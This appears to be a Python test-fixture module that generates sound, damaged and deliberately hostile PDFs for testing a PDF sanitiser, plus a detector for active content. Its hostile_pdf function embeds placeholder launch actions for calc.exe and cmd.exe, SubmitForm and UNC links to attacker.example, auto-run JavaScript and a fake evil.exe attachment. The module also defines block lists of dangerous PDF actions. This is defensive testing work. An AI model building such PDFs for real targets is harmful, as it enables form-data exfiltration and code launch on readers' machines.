"""Small real PDFs for tests: sound ones (a page that says something) and damaged or hostile ones.

Made with pikepdf, so no test depends on a file checked in. The damaged ones are what the full
check at attach time (``pack_merge.read_paper_pdf``) must refuse or repair; the hostile one carries
every kind of active content ``active_content.remove_active_content`` takes out of the pack's copy.
"""

from __future__ import annotations

import io
import re


def _save(pdf, **options) -> bytes:
    buf = io.BytesIO()
    pdf.save(buf, **options)
    return buf.getvalue()


def tiny_pdf(text: str = "A paper", pages: int = 1) -> bytes:
    """A sound PDF whose every page shows ``text`` (and its page number) in Helvetica."""
    import pikepdf
    from pikepdf import Dictionary, Name

    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    safe = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1", "replace")
    for n in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 14 Tf 72 760 Td (" + safe + f" p{n}".encode() + b") Tj ET")
    return _save(pdf)


def damaged_pdfs() -> dict[str, tuple[bytes, str]]:
    """Damaged PDFs the full check refuses: name -> (bytes, words the refusal must hold)."""
    import pikepdf
    from pikepdf import Array, Name

    out: dict[str, tuple[bytes, str]] = {}
    out["garbage after the header"] = (b"%PDF-1.7\n" + b"\x00\xff garbage " * 50 + b"\n%%EOF\n",
                                       "structure cannot be found")
    raw = tiny_pdf("TRUNCATED", 3)
    out["cut in half"] = (raw[: len(raw) // 2] + b"\n%%EOF\n", "repairing it leaves pages 2 and 3 blank")
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("LOOP", 2)))
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)
    pdf.Root.Pages.Count = 3
    out["page tree loop"] = (_save(pdf), "list of pages loops back on itself")
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("INT", 2)))
    pdf.pages[1].obj.Contents = 7
    out["contents not a stream"] = (_save(pdf), "page 2 has content that is not a content stream")
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("FLATE", 2)))
    pdf.pages[0].obj.Contents.write(b"\x78\x9c this is not deflate data" * 3, filter=Name.FlateDecode)
    out["corrupt compressed content"] = (
        _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none),
        "page 1 has content whose compressed data is corrupt")
    out["no pages"] = (_save(pikepdf.new()), "no pages")
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("BLANK", 2)))
    for page in pdf.pages:
        del page.obj["/Contents"]
    out["every page blank"] = (_save(pdf), "blank")
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("ZERO", 1)))
    pdf.pages[0].obj.MediaBox = Array([0, 0, 0, 0])
    out["page with no area"] = (_save(pdf), "page 1 has no area")
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("LOCKED", 1)))
    out["password to open"] = (_save(pdf, encryption=pikepdf.Encryption(user="open-sesame", owner="o")),
                               "protected by a password")
    return out


def repairable_pdfs() -> dict[str, bytes]:
    """Damaged PDFs qpdf repairs on reading: accepted, with a note."""
    import pikepdf
    from pikepdf import Array, Name

    out: dict[str, bytes] = {}
    raw = tiny_pdf("XREF", 2)
    at = raw.rfind(b"startxref")
    out["wrong xref offset"] = raw[:at] + b"startxref\n999999\n%%EOF\n"
    out["no xref table"] = raw[: raw.rfind(b"xref")] + b"%%EOF\n"
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("BOX", 2)))
    pdf.pages[0].obj.MediaBox = Array([0, 0, Name.A, 792])
    out["media box of names"] = _save(pdf)
    return out


def sound_odd_pdfs() -> dict[str, bytes]:
    """Unusual but sound PDFs: accepted without a note."""
    import pikepdf

    out: dict[str, bytes] = {}
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("SOMEBLANK", 2)))
    del pdf.pages[1].obj["/Contents"]
    out["one blank page"] = _save(pdf)
    pdf = pikepdf.open(io.BytesIO(tiny_pdf("OWNER", 1)))
    out["owner password only"] = _save(pdf, encryption=pikepdf.Encryption(user="", owner="restrict"))
    return out


def hostile_pdf(marker: str = "HOSTILE") -> bytes:
    """Two pages carrying every kind of active content, and the links and notes that may stay.

    Page 1's links, in order: launch calc.exe; a web link (kept); file: URI; UNC path; GoToR; SubmitForm;
    ImportData; GoTo with a JavaScript /Next; GoToE; mailto (kept); plain GoTo (kept); JavaScript URI.
    """
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    pdf = pikepdf.open(io.BytesIO(tiny_pdf(marker, 2)))

    def js(code: str):
        return Dictionary(S=Name.JavaScript, JS=String(code))

    pdf.Root.OpenAction = js("app.alert('opened')")
    pdf.Root.AA = Dictionary(WC=js("app.alert('closing')"))
    payload = pdf.make_stream(b"MZ pretend program")
    payload.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("evil.exe"), UF=String("evil.exe"), EF=Dictionary(F=payload))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("startup"), pdf.make_indirect(js("app.alert(1)"))])),
        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), pdf.make_indirect(spec)])))
    p1, p2 = pdf.pages[0].obj, pdf.pages[1].obj
    p1.AA = Dictionary(O=js("app.alert('page')"), C=Dictionary(S=Name.Launch, F=String("cmd.exe")))

    def link(y: int, action):
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, y, 200, y + 20]),
                                            Border=Array([0, 0, 0]), A=action))

    annots = [
        link(600, Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("cmd.exe")))),
        link(570, Dictionary(S=Name.URI, URI=String("https://www.gov.uk/government/publications/working-together"))),
        link(540, Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe"))),
        link(510, Dictionary(S=Name.URI, URI=String("\\\\attacker.example\\share\\x"))),
        link(480, Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
        link(450, Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect"))),
        link(420, Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        link(390, Dictionary(S=Name.GoTo, D=Array([p2, Name.Fit]), Next=js("app.alert('next')"))),
        link(360, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x")))),
        link(330, Dictionary(S=Name.URI, URI=String("mailto:business.support@example.org"))),
        link(300, Dictionary(S=Name.GoTo, D=Array([p2, Name.Fit]))),
        link(270, Dictionary(S=Name.URI, URI=String("javascript:app.alert(3)"))),
    ]
    attached = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"),
                                            EF=Dictionary(F=pdf.make_stream(b"MZ"))))
    for y, subtype, extra in (
        (600, Name.FileAttachment, {"FS": attached}),
        (560, Name.RichMedia, {}),
        (520, Name.Movie, {"Movie": Dictionary(F=String("m.avi"))}),
        (480, Name.Sound, {}),
        (440, Name.Screen, {"A": Dictionary(S=Name.Rendition, JS=String("app.alert(2)"))}),
        (400, Name("/3D"), {}),
    ):
        annots.append(pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=subtype,
                                                   Rect=Array([300, y, 320, y + 20]), **extra)))
    field = pdf.make_indirect(Dictionary(FT=Name.Btn, T=String("send"), AA=Dictionary(K=js("app.alert('key')"))))
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, Rect=Array([300, 300, 400, 320]), Parent=field, P=p1,
        A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example")), AA=Dictionary(U=js("app.alert('up')"))))
    field.Kids = Array([widget])
    annots.append(widget)
    annots.append(pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([400, 600, 420, 620]),
                                               Contents=String("A reviewer's note"))))
    p1.Annots = Array(annots)
    p2.Annots = Array([link(600, js("this.print()"))])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp><script/></xdp:xdp>"))
    return _save(pdf)


BAD_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition", "/Movie",
               "/Sound", "/RichMediaExecute", "/GoTo3DView"}
BAD_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Movie", "/Sound", "/Screen", "/3D"}
BAD_KEYS = {"/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/XFA", "/JavaScript"}


def active_content_left(data: bytes) -> list[str]:
    """Every piece of active content anywhere in a PDF — every object in the file, reachable or not — as
    'object: what'. Web (http, https) and email links are not active content."""
    import pikepdf

    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        def visit(obj, where: str, depth: int = 0) -> None:
            if depth > 60:
                return
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                for key in list(obj.keys()):
                    value = obj.get(key)
                    if key in BAD_KEYS:
                        found.append(f"{where}: {key}")
                    elif key == "/S" and str(value) in BAD_ACTIONS:
                        found.append(f"{where}: action {value}")
                    elif key == "/Subtype" and str(value) in BAD_ANNOTATIONS:
                        found.append(f"{where}: annotation {value}")
                    elif key == "/Type" and str(value) == "/EmbeddedFile":
                        found.append(f"{where}: an embedded file")
                    elif key == "/URI" and not re.match(rb"(?i)(https?://|mailto:)", bytes(value)):
                        found.append(f"{where}: URI {bytes(value)!r}")
                    if isinstance(value, (pikepdf.Array, pikepdf.Dictionary)) and not value.is_indirect:
                        visit(value, where, depth + 1)
            elif isinstance(obj, pikepdf.Array):
                for value in obj:
                    if isinstance(value, (pikepdf.Array, pikepdf.Dictionary)) and not value.is_indirect:
                        visit(value, where, depth + 1)

        for obj in pdf.objects:
            visit(obj, f"object {obj.objgen[0]}")
        visit(pdf.trailer, "trailer")
    return found


def web_links(data: bytes) -> list[str]:
    """The web and email addresses of the link annotations on every page, in page order."""
    import pikepdf

    out = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages:
            for annot in page.obj.get("/Annots", []):
                action = annot.get("/A")
                if action is not None and str(action.get("/S")) == "/URI":
                    out.append(bytes(action.URI).decode())
    return out
